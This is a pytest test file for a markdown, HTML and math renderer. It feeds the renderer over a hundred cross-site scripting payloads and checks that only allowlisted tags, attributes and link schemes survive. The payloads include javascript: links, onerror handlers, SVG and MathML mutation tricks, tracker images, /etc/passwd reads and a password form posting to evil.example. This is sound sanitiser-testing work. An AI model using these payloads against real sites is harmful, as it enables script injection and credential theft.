"""Texts written to do harm: whatever they are, what is left on the page is on one short list."""

from html import unescape
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from readinggroup.text.markdown import plain, render, render_inline

# Written out here and not imported, so that a longer list in the code is noticed.
HTML_ELEMENTS = """
    a blockquote br code em h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul
"""
MATHML_ELEMENTS = """
    math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt
    mstyle msub msubsup msup mtable mtd mtext mtr munder munderover
"""
ATTRIBUTES = """
    accent accentunder class columnspan depth display displaystyle form height href largeop linethickness lspace
    mathvariant maxsize minsize movablelimits notation rel rowspan rspace scriptlevel start stretchy symmetric
    title voffset width
"""
HTML = "{http://www.w3.org/1999/xhtml}"
MATHML = "{http://www.w3.org/1998/Math/MathML}"

MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](java%73cript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](\x00javascript:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://a.example/b)",
    "[a](//evil.example)",
    "[a](\\\\evil.example)",
    "[a](/\\evil.example)",
    "[a](http://[::1)",
    "[a](http://a.example\\@evil.example)",
    '[a](https://a.example/"onmouseover=alert(1))',
    "[a](https://a.example/'onmouseover='alert(1))",
    '[a](https://a.example "b" onmouseover="alert(1)")',
    '[a](https://a.example "b\\" onmouseover=\\"alert(1)")',
    "[a](https://a.example '\"><script>alert(1)</script>')",
    "[<script>alert(1)</script>](https://a.example)",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a]: <javascript:alert(1)> "t"\n\n[b][a]',
    "[a]: https://a.example '\" onload=\"alert(1)'\n\n[a]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://a.example/<script>alert(1)</script>>",
    "![a](javascript:alert(1))",
    "![a](https://tracker.example/pixel.png)",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    '![" onerror="alert(1)](https://a.example/b.png)',
    '![a](https://a.example/b.png"onerror="alert(1))',
    "![![![a](javascript:1)](javascript:2)](javascript:3)",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "[a [b](https://b.example) c](https://c.example)",
    '```"><script>alert(1)</script>\na\n```',
    '```python" onload="alert(1)\n<script>alert(1)</script>\n```',
    "~~~html\n<script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``` \n</code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | `|` |",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "# <script>alert(1)</script>",
    "> <iframe src=https://evil.example></iframe>",
    "- <style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "a\u2028<script>alert(1)</script>",
    "\ud83c<script>alert(1)</script>\udf00",
    "＜script＞alert(1)＜/script＞",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script/x>alert(1)</script\t>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '<IMG SRC="jav\tascript:alert(1)">',
    "<img srcset='https://tracker.example/a.png 1x'>",
    "<picture><source srcset=https://tracker.example></picture>",
    "<video src=x onerror=alert(1) autoplay></video>",
    "<audio src=https://tracker.example></audio>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=a></applet>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>a</details>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>@import 'https://evil.example';</style>",
    "<style>body{background:url(https://tracker.example)}",
    "<p style='position:fixed;inset:0'>a</p>",
    "<p id=csrf_token class=flash>a</p>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='https://a.example' target=_blank onclick=alert(1)>a</a>",
    "<a name=getElementById>a</a>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>a",
    "<select><option><script>alert(1)</script></select>",
    "<table><td background=javascript:alert(1)>a</table>",
    "<isindex action=javascript:alert(1)>",
    "<portal src=https://evil.example>",
    "<slot name=a><p slot=a>b</p></slot>",
    "<x onclick=alert(1)>a</x>",
    "<a-b onclick=alert(1)>a</a-b>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><image href=https://tracker.example/a.png></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math href=javascript:alert(1)>a</math>",
    "<math><a xlink:href=javascript:alert(1)>a</a></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    "<math><mi style=position:fixed class=a id=b onclick=alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation encoding=text/html><img src=x onerror=alert(1)></annotation></semantics>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mglyph src=https://tracker.example/a.png></math>",
]
FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\htmlClass{flash}{x}$",
    r"$\htmlStyle{position:fixed}{x}$",
    r"$\htmlId{csrf_token}{x}$",
    r"$\class{flash}{x}$",
    r"$\style{position:fixed}{x}$",
    r"$\cssId{a}{x}$",
    r"$\require{html}$",
    r"$\includegraphics{https://tracker.example/a.png}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\text{</math><script>alert(1)</script>}$",
    r"$\mathrm{<img src=x onerror=alert(1)>}$",
    r"$\operatorname{<script>}$",
    r"$\textcolor{red;position:fixed}{x}$",
    r"$\textcolor{red}{x}$",
    r"$\color{#f00}x$",
    r"$\hspace{9999em}x$",
    r"$\kern{-99em}x$",
    r"$\label{csrf_token}x$",
    "$$\\begin{equation}x\\label{csrf_token}\\end{equation}\\eqref{csrf_token}$$",
    "$$\\begin{align}a&=b\\tag{<script>alert(1)</script>}\\end{align}$$",
    "$$x$$ (csrf_token)",
    "$$\n<script>alert(1)</script>\n$$",
    "$<script>alert(1)</script>$",
    r"$\verb|<script>alert(1)</script>|$",
    r"$\unicode{x3c}script>$",
    r"$\char`<script>$",
    "$\\input{/etc/passwd}$",
    r"$\newcommand{\x}{<script>alert(1)</script>}\x$",
    "$\x00$ $\ud800$",
    '$" onmouseover="alert(1)$',
    "$&lt;script&gt;alert(1)$",
]
ALL = MARKDOWN + MARKUP + FORMULAS


def assert_harmless(html: str) -> None:
    """Refuse every element, attribute, scheme and class that isn't known to be without effect."""
    for element in html5lib.parseFragment(html, treebuilder="etree").iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        in_math = element.tag.startswith(MATHML)
        name = element.tag.removeprefix(MATHML if in_math else HTML)
        assert name in (MATHML_ELEMENTS if in_math else HTML_ELEMENTS).split(), name
        assert set(element.attrib) <= set(ATTRIBUTES.split()), (name, element.attrib)
        assert not (in_math and {"class", "href"} & set(element.attrib))
        if "href" in element.attrib:
            assert name == "a"
            assert urlsplit(element.attrib["href"]).scheme in {"http", "https", "mailto"}
            assert element.attrib["rel"] == "nofollow ugc noopener"


@pytest.mark.parametrize("text", ALL)
def test_render_leaves_nothing_that_acts(text):
    assert_harmless(render(text))


@pytest.mark.parametrize("text", ALL)
def test_render_inline_leaves_nothing_that_acts(text):
    html = render_inline(text)

    assert_harmless(html)
    assert "<a" not in html
    assert "<p" not in html


@pytest.mark.parametrize(
    "around", ["> {}", "- {}", "# {}", "**{}**", "[{}](https://a.example)", "| {} |\n|---|\n| {} |"]
)
def test_render_leaves_nothing_that_acts_inside_other_marks(around):
    for text in ALL:
        assert_harmless(render(around.replace("{}", text)))


@pytest.mark.parametrize("text", MARKUP)
def test_render_loses_no_letter_of_html_that_it_shows_as_text(text):
    shown = "".join(html5lib.parseFragment(render(text), treebuilder="etree").itertext())

    assert "".join(shown.split()) == "".join(unescape(text).split())


def test_render_of_all_attacks_in_one_text_leaves_nothing_that_acts():
    assert_harmless(render("\n\n".join(ALL)))
    assert_harmless(render("".join(ALL)))


PIECES = st.sampled_from(
    [
        *"<>\"'`$*_[]()!|&;:\\/ \n\t#-=~",
        *(
            "<script>",
            "</",
            "javascript:",
            "https://a.example",
            "$$",
            "```",
            "\\text{",
            "<math>",
            "<mtext>",
            "<style>",
        ),
        *("onload=", "&lt;", "&#x3c;", "-->", "<!--", "\x00", "\ud800", "|-|\n", "![", "]("),
    ]
)


@settings(deadline=None, max_examples=400)
@given(st.lists(PIECES | st.text(max_size=3), max_size=30).map("".join))
def test_render_of_any_text_leaves_nothing_that_acts(text):
    assert_harmless(render(text))
    assert_harmless(render_inline(text))
    plain(text)
